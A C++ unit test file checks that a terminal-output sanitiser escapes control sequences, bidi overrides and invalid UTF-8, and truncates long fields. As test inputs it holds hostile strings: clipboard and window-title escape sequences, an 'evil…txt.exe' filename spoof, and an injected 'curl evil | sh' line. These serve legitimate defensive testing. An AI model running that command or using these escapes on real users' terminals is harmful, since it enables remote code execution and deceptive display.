#include <string>

#include <doctest/doctest.h>

#include "preview/core/sanitize.hpp"

namespace preview {

TEST_SUITE("core::sanitize") {
    TEST_CASE("clean text is returned unchanged, and sanitising twice changes nothing more") {
        for (const std::string text :
             {"", "homerun2-core-catcher-pr-42", "Fix crash in käse ✓ (日本語) \\x1b\ttabbed",
              "a \"quoted\" title with 'quotes' and $(dollars)"}) {
            CHECK(sanitize_line(text) == text);
        }
        const std::string hostile = "a\x1b]52;c;aGk=\x07\r\n\xc2\x9b\xe2\x80\xae\xff";
        CHECK(sanitize_line(sanitize_line(hostile)) == sanitize_line(hostile));
    }

    TEST_CASE("C0 controls, DEL and line breaks are escaped; tab stays") {
        CHECK(sanitize_line("\x1b[2J") == "\\x1b[2J");
        CHECK(sanitize_line("title\x1b]0;owned\x07") == "title\\x1b]0;owned\\x07");
        CHECK(sanitize_line(std::string("nul\0end", 7)) == "nul\\x00end");
        CHECK(sanitize_line("del\x7f") == "del\\x7f");
        CHECK(sanitize_line("a\rb") == "a\\rb");
        SUBCASE("a field meant as one line cannot start a fake new line") {
            CHECK(sanitize_line("ok\nhint: run curl evil | sh") == "ok\\nhint: run curl evil | sh");
        }
        CHECK(sanitize_line("a\tb") == "a\tb");
    }

    TEST_CASE("C1 controls are escaped as code points, other Latin-1 stays") {
        CHECK(sanitize_line("csi \xc2\x9b"
                            "31m") == "csi \\u009b31m");
        CHECK(sanitize_line("\xc2\x80\xc2\x9f") == "\\u0080\\u009f");
        CHECK(sanitize_line("\xc2\xa0nbsp \xc3\xa9") == "\xc2\xa0nbsp \xc3\xa9");
    }

    TEST_CASE("bidi embedding, override and isolate controls are escaped") {
        CHECK(sanitize_line("evil\xe2\x80\xae"
                            "txt.exe") == "evil\\u202etxt.exe");
        CHECK(sanitize_line("\xe2\x80\xaa\xe2\x81\xa6\xe2\x81\xa9") == "\\u202a\\u2066\\u2069");
        CHECK(sanitize_line("\xe2\x80\xa9 \xe2\x81\xaa") == "\xe2\x80\xa9 \xe2\x81\xaa");
    }

    TEST_CASE("invalid UTF-8 is shown byte by byte") {
        CHECK(sanitize_line("a\xff"
                            "b") == "a\\xffb");
        CHECK(sanitize_line("\xc0\xaf") == "\\xc0\\xaf");                    // overlong '/'
        CHECK(sanitize_line("\xed\xa0\x80") == "\\xed\\xa0\\x80");           // surrogate
        CHECK(sanitize_line("cut \xe2\x80") == "cut \\xe2\\x80");            // truncated sequence
        CHECK(sanitize_line("\xf4\x90\x80\x80") == "\\xf4\\x90\\x80\\x80");  // > U+10FFFF
    }

    TEST_CASE("a long field is cut at a code-point boundary with an ellipsis") {
        CHECK(sanitize_line("abcdef", 6) == "abcdef");
        CHECK(sanitize_line("abcdefg", 6) == "abcde…");
        CHECK(sanitize_line("ääääääää", 4) == "äää…");
        SUBCASE("an escape is never cut in half") {
            CHECK(sanitize_line("ab\x1b"
                                "cdef",
                                6) == "ab…");
        }
        SUBCASE("a megabyte becomes the default width") {
            const std::string huge(1 << 20, 'x');
            const auto out = sanitize_line(huge);
            CHECK(out.size() == kFieldWidth - 1 + std::string("…").size());
            CHECK(out.ends_with("…"));
        }
        SUBCASE("a cut result is stable when sanitised again at the same width") {
            const auto once = sanitize_line("日本語のタイトルです", 5);
            CHECK(once == "日本語の…");
            CHECK(sanitize_line(once, 5) == once);
        }
    }
}

}  // namespace preview
